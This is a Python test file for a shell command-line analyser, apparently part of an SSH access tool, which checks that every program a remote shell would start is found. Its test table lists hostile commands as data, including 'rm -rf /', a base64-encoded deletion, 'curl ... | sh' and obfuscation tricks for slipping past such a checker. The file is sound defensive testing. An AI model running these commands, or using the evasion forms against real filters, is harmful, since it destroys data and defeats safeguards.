"""What an exec command line runs: every program the remote shell would start, or why not."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from jitctl_ssh.cmdline import analyse

# (line, programs the shell would start, whether part of it cannot be read)
TABLE = [
    ("ls -la /tmp", ["ls"], False),
    ("rm -rf x; echo ok", ["rm", "echo"], False),
    ("a && b || c | d & e", ["a", "b", "c", "d", "e"], False),
    ("a\nb", ["a", "b"], False),
    ("echo $(rm x) `whoami`", ["rm", "whoami", "echo"], False),
    ('echo "$(id -u) and `date`"', ["id", "date", "echo"], False),
    ("sh -c 'rm -rf /tmp/x; touch y'", ["sh", "rm", "touch"], False),
    ('bash -lc "cd /srv && rm -r old"', ["bash", "cd", "rm"], False),
    ("sudo -u root rm -rf /", ["sudo", "rm"], False),
    ("env A=1 B=2 rm x", ["env", "rm"], False),
    ("timeout 5 nice -n 10 rm x", ["timeout", "nice", "rm"], False),
    ("find . -name x -exec rm {} \\;", ["find", "rm"], False),
    ("ls | xargs -n1 rm", ["ls", "xargs", "rm"], False),
    ("FOO=bar ls", ["ls"], False),
    ("x=$(rm y) ls", ["rm", "ls"], False),
    ("cat <<EOF\n$(rm a)\nEOF\necho done", ["rm", "cat", "echo"], False),
    ("cat <<'EOF'\n$(rm a)\nEOF\n", ["cat"], False),
    ("(cd /tmp && rm x)", ["cd", "rm"], False),
    ("{ rm x; }", ["rm"], False),
    ("if true; then rm x; fi", ["true", "rm"], False),
    ("for i in 1 2; do rm $i; done", ["rm"], False),
    ("diff <(ls a) <(ls b)", ["ls", "ls", "diff"], False),
    ("ls 2>/dev/null >out", ["ls"], False),
    ("echo a#b # comment; rm x", ["echo"], False),
    ("r\\m x", ["rm"], False),
    ("'rm' x", ["rm"], False),
    ("$'\\x72m' x", ["rm"], False),
    ("/usr/bin/rm x", ["rm"], False),
    ("ls ${X:-$(rm z)}", ["rm", "ls"], False),
    ("busybox sh -c 'rm x'", ["busybox", "rm"], False),
    ("su -c 'rm x' root", ["su", "rm"], False),
    # cannot be read without running it
    ("curl http://x | sh", ["curl", "sh"], True),
    ('bash -c "$(echo cm0gLXJmIC8K | base64 -d)"', ["echo", "base64", "bash"], True),
    ("eval $X", ["eval"], True),
    ("source ./env.sh", ["source"], True),
    ("$CMD arg", [], True),
    ('"$(which rm)" x', ["which"], True),
    ("{rm,-rf,x}", [], True),
    ("/bin/r? x", [], True),
    ("bash script.sh", ["bash"], True),
    ("echo 'unterminated", ["echo"], True),
    ("echo $(unbalanced", ["echo"], True),
    ("case $x in a) rm y;; esac", ["rm"], True),
]


@pytest.mark.parametrize(("line", "programs", "opaque"), TABLE)
def test_every_program_the_shell_would_start_is_found(
    line: str, programs: list[str], opaque: bool
) -> None:
    analysis = analyse(line)
    assert analysis.programs() == programs
    assert bool(analysis.opaque) is opaque, analysis.opaque


def test_opaque_parts_say_why() -> None:
    assert analyse("curl x | sh").opaque == ["a shell reads its commands from stdin (a pipe)"]
    assert "eval" in analyse("eval x").opaque[0]


def test_arguments_survive_quote_removal() -> None:
    assert analyse("grep -r 'a b' \"c d\" e\\ f").commands == [["grep", "-r", "a b", "c d", "e f"]]


@settings(max_examples=500, deadline=None)
@given(st.text(max_size=200))
def test_any_text_is_analysed_without_error(line: str) -> None:
    analysis = analyse(line)
    assert all(isinstance(argv, list) and argv for argv in analysis.commands)


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="rm;|&$()`'\"\\ \n{}<>#=*?ab", max_size=60))
def test_shell_punctuation_never_crashes_the_analyser(line: str) -> None:
    analyse(line)


@settings(max_examples=200, deadline=None)
@given(
    st.sampled_from(["; ", " && ", " || ", " | ", "\n", " & "]),
    st.sampled_from(["echo hi", "ls", "true", "cat f"]),
)
def test_a_program_hidden_behind_any_separator_is_found(sep: str, before: str) -> None:
    assert "rm" in analyse(before + sep + "rm -rf /").programs()
